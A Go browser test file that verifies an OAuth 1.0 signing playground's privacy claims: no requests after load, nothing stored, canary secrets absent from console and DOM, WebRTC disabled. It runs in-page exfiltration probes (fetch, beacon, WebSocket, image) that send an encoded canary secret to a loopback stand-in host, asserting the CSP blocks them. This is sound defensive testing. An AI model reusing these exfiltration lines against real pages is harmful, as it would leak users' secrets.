//go:build !js

package main

// The proof behind the warning banner's claims, in headless Chromium: no
// network request after the page has loaded, exfiltration refused by the
// CSP, nothing stored, nothing secret on the console, nothing secret left
// after Clear. Each "nothing" is trusted only after the same recorder has
// seen something: the page's own load, a probe line on the console.

import (
	"context"
	"iter"
	"net"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Canary secrets: long, unique, and found nowhere else, so any copy of one
// in a request, the console, storage or the DOM after Clear is a leak.
const (
	canaryConsumer = "CANARYconsumerSECRET4b1d9e0f77aa"
	canaryToken    = "CANARYtokenSECRET93c5e2a8d6f1"
)

// netLog records every request the page's target makes, as CDP reports it.
type netLog struct {
	mu       sync.Mutex
	requests []string
	blocked  []string
}

func (l *netLog) snapshot() (requests, blocked []string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.requests...), append([]string(nil), l.blocked...)
}

// consoleLines are the console lines a recorder has kept, safe to read
// while it runs.
type consoleLines struct {
	mu  sync.Mutex
	all []string
}

// recordFrameViolations keeps every console line of ctx that reports a
// frame-ancestors violation, until ctx ends.
func recordFrameViolations(ctx context.Context) *consoleLines {
	c := &consoleLines{}
	record(chromedp.Console(ctx), &c.mu, &c.all, func(m chromedp.ConsoleMessage) []string {
		if strings.Contains(m.Text, "frame-ancestors") {
			return []string{m.Text}
		}
		return nil
	})
	return c
}

// lines returns a copy of the lines kept so far.
func (c *consoleLines) lines() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.all...)
}

// reset forgets the lines kept so far.
func (c *consoleLines) reset() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.all = nil
}

// record collects, in a goroutine, the lines that lines makes of each
// event of events into *into, under mu, until the events end.
func record[E any](events iter.Seq2[E, error], mu *sync.Mutex, into *[]string, lines func(E) []string) {
	go func() {
		for ev, err := range events {
			if err != nil {
				return
			}
			mu.Lock()
			*into = append(*into, lines(ev)...)
			mu.Unlock()
		}
	}()
}

// watchNetwork records the requests of ctx's target from now on.
func watchNetwork(ctx context.Context, t *testing.T) *netLog {
	t.Helper()
	l := &netLog{}
	record(chromedp.Events(ctx, network.RequestWillBeSent), &l.mu, &l.requests, func(ev network.EventRequestWillBeSent) []string {
		return []string{ev.Request.URL}
	})
	record(chromedp.Events(ctx, network.LoadingFailed), &l.mu, &l.blocked, func(ev network.EventLoadingFailed) []string {
		return []string{string(ev.BlockedReason)}
	})
	_, err := chromedp.Call(ctx, network.Enable, network.EnableParams{})
	require.NoError(t, err)
	return l
}

// assertRecordedLoad checks that the log saw the page load (the document
// at doc and its module script, the signer and wasm_exec.js, all from
// base) and nothing from elsewhere, so that a count of zero requests after
// it means the page made none, not that the recorder missed them. It
// returns how many requests the load made.
func assertRecordedLoad(t *testing.T, l *netLog, base, doc, script string) int {
	t.Helper()
	loaded, _ := l.snapshot()
	for _, u := range loaded {
		assert.True(t, strings.HasPrefix(u, base), "the page loaded something from elsewhere: %s", u)
	}
	for _, want := range []string{base + doc, base + script, base + "signer-lite.wasm.js", base + "wasm_exec.js"} {
		require.Contains(t, loaded, want, "the recorder did not see the page's own load, so it cannot vouch for zero requests after it")
	}
	return len(loaded)
}

// consoleLog records every console API call of ctx's target.
type consoleLog struct {
	mu    sync.Mutex
	lines []string
}

// watchConsole records the console of ctx's target from now on.
func watchConsole(ctx context.Context) *consoleLog {
	c := &consoleLog{}
	record(chromedp.Events(ctx, runtime.ConsoleAPICalled), &c.mu, &c.lines, func(ev runtime.EventConsoleAPICalled) []string {
		var lines []string
		for _, arg := range ev.Args {
			lines = append(lines, string(arg.Value)+" "+arg.Description)
		}
		return lines
	})
	return c
}

// snapshot returns the lines recorded so far.
func (c *consoleLog) snapshot() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.lines...)
}

// probe logs a marker line through the page's own console and waits until
// the recorder has it: only then does an absence in its lines mean
// something. It returns the lines recorded up to the marker.
func (c *consoleLog) probe(t *testing.T, ctx context.Context) []string {
	t.Helper()
	const marker = "oauth1-playground-test-console-probe"
	_, err := chromedp.Run(ctx, chromedp.Evaluate[chromedp.Void](`console.log(`+jsStr(marker)+`)`))
	require.NoError(t, err)
	var lines []string
	require.Eventually(t, func() bool {
		lines = c.snapshot()
		return slices.ContainsFunc(lines, func(l string) bool { return strings.Contains(l, marker) })
	}, 10*time.Second, 50*time.Millisecond, "the console recorder never saw the probe line, so it cannot vouch for an empty console")
	return lines
}

// openRecorded starts the server and a browser, records the network and
// the console of the tab, then loads path (index.html when empty, whose
// module script is script) and waits for the first signature. It returns
// the tab, the two recorders and how many requests the load made, having
// checked with assertRecordedLoad that the recorder saw that load.
func openRecorded(t *testing.T, path, script string) (context.Context, *netLog, *consoleLog, int) {
	t.Helper()
	requireBrowser(t)
	base := startServer(t)
	ctx := newBrowser(t)
	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate("about:blank")))
	console := watchConsole(ctx)
	netlog := watchNetwork(ctx, t)
	require.NoError(t, chromedp.Do(ctx,
		chromedp.Navigate(base+path),
		chromedp.WaitReady(chromedp.CSS(readySelector)),
	))
	doc, _, _ := strings.Cut(path, "#")
	return ctx, netlog, console, assertRecordedLoad(t, netlog, base, doc, script)
}

// TestBrowserPrivacy is the proof behind the warning banner's claims: after the
// page has loaded, typing secrets, signing, verifying, diagnosing and
// importing makes no network request at all; a fetch, a beacon, an image
// and a WebSocket aimed elsewhere are blocked by the CSP; nothing is in
// storage or cookies; no secret reaches the console; after Clear no secret
// is left in the DOM.
func TestBrowserPrivacy(t *testing.T) {
	ctx, netlog, console, _ := openRecorded(t, "", "app.js")
	// The full signer (verify, diagnose, parse) loads from the page's own
	// origin once the page is idle after its first signature (engine.js);
	// the count of requests starts once it runs.
	_, err := chromedp.Run(ctx, chromedp.Poll[bool](`globalThis.oauth1?.build === 'full'`, chromedp.WithPollingTimeout(20*time.Second)))
	require.NoError(t, err, "the full signer did not load once the page was idle")
	loaded, _ := netlog.snapshot()
	before := len(loaded)

	// Type secrets and let the page sign with them.
	waitSigned := `document.querySelector('[data-testid="status"]').dataset.signCount`
	count, err := chromedp.Run(ctx, chromedp.Evaluate[string](waitSigned))
	require.NoError(t, err)
	for id, secret := range map[string]string{"input-consumerSecret": canaryConsumer, "input-tokenSecret": canaryToken} {
		_, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(document.querySelector('[data-testid="`+id+`"]').value = '') === ''`))
		require.NoError(t, err)
		require.NoError(t, chromedp.Do(ctx, chromedp.SendKeys(testid(id), secret)))
	}
	_, err = chromedp.Run(ctx, chromedp.Poll[bool](waitSigned+` !== `+jsStr(count)+` && document.querySelector('[data-testid="signature"]').textContent !== `+jsStr(xSignature),
		chromedp.WithPollingTimeout(10*time.Second)))
	require.NoError(t, err, "the page did not sign with the typed secrets")

	// Every other entry point, through the JS API the page exposes.
	used, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => {
		const req = { method: 'POST', url: 'https://api.x.com/1.1/statuses/update.json?include_entities=true',
			consumerKey: 'xvz1evFS4wEEPTGEFPHBog', consumerSecret: `+jsStr(canaryConsumer)+`,
			token: '370773112-GmHxMAgYyLbNEtIKZeRNFsMKPR9EyMZeS9weJAEb', tokenSecret: `+jsStr(canaryToken)+`,
			nonce: 'n', timestamp: '1', signature: 'Il5C7oPhfqV+nSqa3WoH4988Ll0=' };
		const signed = oauth1.sign(req);
		const checks = [signed, oauth1.verify(req), oauth1.diagnose(req), oauth1.parse(signed.curl)];
		return checks.every(r => r.ok === true);
	})()`))
	require.NoError(t, err)
	assert.True(t, used, "sign, verify, diagnose and parse all answered")

	after, _ := netlog.snapshot()
	assert.Equal(t, before, len(after), "requests after load: %v", after[before:])

	// Exfiltration attempts from inside the page are refused by the CSP.
	attempts, err := chromedp.Run(ctx, chromedp.Evaluate[map[string]string](`(async () => {
		const out = {};
		const violations = [];
		document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective));
		const s = encodeURIComponent(`+jsStr(canaryConsumer)+`);
		try { await fetch('http://127.0.0.2:9/?s=' + s); out.fetch = 'sent' } catch (e) { out.fetch = 'blocked' }
		try { await fetch('/?s=' + s); out.fetchSelf = 'sent' } catch (e) { out.fetchSelf = 'blocked' }
		navigator.sendBeacon('/beacon?s=' + s, s); // returns true; the CSP blocks it after
		out.ws = 'pending';
		try {
			const ws = new WebSocket('ws://127.0.0.2:9/?s=' + s);
			ws.onopen = () => { out.ws = 'opened' };
			ws.onerror = () => { out.ws = 'blocked' };
		} catch (e) { out.ws = 'blocked' }
		const img = new Image(); img.src = 'http://127.0.0.2:9/?s=' + s; document.body.append(img);
		try { document.body.innerHTML = '<b>x</b>'; out.innerHTML = 'allowed' } catch (e) { out.innerHTML = 'threw ' + e.name }
		try {
			const script = document.createElement('script');
			script.textContent = 'window.__injected = 1';
			document.body.append(script);
		} catch (e) { /* Trusted Types refuse the text before the CSP sees it */ }
		out.inlineScript = window.__injected === undefined ? 'blocked' : 'ran';
		await new Promise(r => setTimeout(r, 300));
		img.remove();
		out.violations = [...new Set(violations)].sort().join(',');
		return out;
	})()`, chromedp.EvalAwaitPromise))
	require.NoError(t, err)
	assert.Equal(t, "blocked", attempts["fetch"])
	assert.Equal(t, "blocked", attempts["fetchSelf"], "connect-src 'none' blocks even our own origin")
	assert.Equal(t, "blocked", attempts["ws"])
	assert.Equal(t, "threw TypeError", attempts["innerHTML"], "Trusted Types")
	assert.Equal(t, "blocked", attempts["inlineScript"])
	for _, d := range []string{"connect-src", "img-src", "require-trusted-types-for"} {
		assert.Contains(t, attempts["violations"], d)
	}
	final, blockedReasons := netlog.snapshot()
	t.Logf("after load: %d requests %v, failures %v; attempts %v", len(final)-before, final[before:], blockedReasons, attempts)
	// CDP may list an attempt the CSP then refuses; every one it lists
	// must have failed, refused by the CSP.
	assert.Len(t, blockedReasons, len(final)-before, "every request after load failed: %v", final[before:])
	for _, r := range blockedReasons {
		assert.Equal(t, "csp", r, "a failed request was refused by the CSP, not by the network")
	}

	// Nothing stored.
	storage, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => [
		localStorage.length, sessionStorage.length, document.cookie.length,
		(await indexedDB.databases()).length, (await caches.keys()).length].join(','))()`, chromedp.EvalAwaitPromise))
	require.NoError(t, err)
	assert.Equal(t, "0,0,0,0,0", storage, "localStorage, sessionStorage, cookies, IndexedDB, Cache Storage")

	// Nothing secret on the console.
	for _, line := range console.probe(t, ctx) {
		assert.NotContains(t, line, canaryConsumer)
		assert.NotContains(t, line, canaryToken)
	}

	// After Clear, no secret anywhere in the DOM or in any input.
	require.NoError(t, chromedp.Do(ctx, chromedp.Click(testid("clear"))))
	left, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(() => {
		const values = [...document.querySelectorAll('input, textarea, select, output')].map(e => e.value ?? '');
		return document.documentElement.outerHTML + '\n' + document.body.innerText + '\n' + values.join('\n');
	})()`))
	require.NoError(t, err)
	assert.NotContains(t, left, canaryConsumer)
	assert.NotContains(t, left, canaryToken)
}

// TestBrowserPrivacyEmbed opens the docs embed on its own, types a secret into it
// and lets it re-sign: no request follows the load.
func TestBrowserPrivacyEmbed(t *testing.T) {
	ctx, netlog, _, loaded := openRecorded(t, "embed.html#preset=x-creating-a-signature", "embed.js")
	count, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector('[data-testid="status"]').dataset.signCount`))
	require.NoError(t, err)
	require.NoError(t, chromedp.Do(ctx,
		chromedp.Click(chromedp.CSS(`#embed-edit summary`)),
		chromedp.WaitVisible(testid("input-consumerSecret")),
		chromedp.SendKeys(testid("input-consumerSecret"), canaryConsumer),
	))
	_, err = chromedp.Run(ctx, chromedp.Poll[bool](`document.querySelector('[data-testid="status"]').dataset.signCount !== `+jsStr(count),
		chromedp.WithPollingTimeout(10*time.Second)))
	require.NoError(t, err, "the embed did not sign with the typed secret")
	after, _ := netlog.snapshot()
	assert.Equal(t, loaded, len(after), "requests after the embed loaded: %v", after[loaded:])
}

// TestBrowserNoWebRTC checks finding 7 of issue 13: connect-src does not
// cover WebRTC, so the page removes its constructors before any of its code
// runs (site/nortc.js). A loopback UDP listener stands in for a STUN server;
// each page (the full page and the embed) tries a peer connection with a
// data channel, an offer and a local description, which starts ICE
// gathering and its STUN requests: the constructors are gone and no packet
// arrives. Without nortc.js the listener gets the STUN binding requests.
func TestBrowserNoWebRTC(t *testing.T) {
	requireBrowser(t)
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { conn.Close() })
	port := conn.LocalAddr().(*net.UDPAddr).Port
	var mu sync.Mutex
	packets := 0
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := conn.ReadFrom(buf); err != nil {
				return
			}
			mu.Lock()
			packets++
			mu.Unlock()
		}
	}()

	base := startServer(t)
	ctx := newBrowser(t)
	try := `(async () => {
		const names = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'RTCSessionDescription', 'RTCIceCandidate'];
		const present = names.filter((n) => typeof globalThis[n] !== 'undefined');
		let outcome = 'sent';
		try {
			const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:` + strconv.Itoa(port) + `' }] });
			pc.createDataChannel('probe');
			await pc.setLocalDescription(await pc.createOffer());
			globalThis.probePeer = pc;
		} catch (e) {
			outcome = e.name;
		}
		return { present, outcome };
	})()`
	for _, page := range []string{"", "embed.html"} {
		require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(base+page), chromedp.WaitReady(chromedp.CSS(readySelector))))
		var got struct {
			Present []string
			Outcome string
		}
		got, err = chromedp.Run(ctx, chromedp.Evaluate[struct {
			Present []string
			Outcome string
		}](try, chromedp.EvalAwaitPromise))
		require.NoError(t, err)
		assert.Empty(t, got.Present, "%s: WebRTC constructors left", page)
		assert.Equal(t, "ReferenceError", got.Outcome, "%s: new RTCPeerConnection did not fail as undefined", page)
	}
	// ICE gathering sends its first STUN request within milliseconds; give
	// it a few seconds.
	time.Sleep(3 * time.Second)
	mu.Lock()
	defer mu.Unlock()
	assert.Zero(t, packets, "UDP packets reached the loopback STUN listener")
}
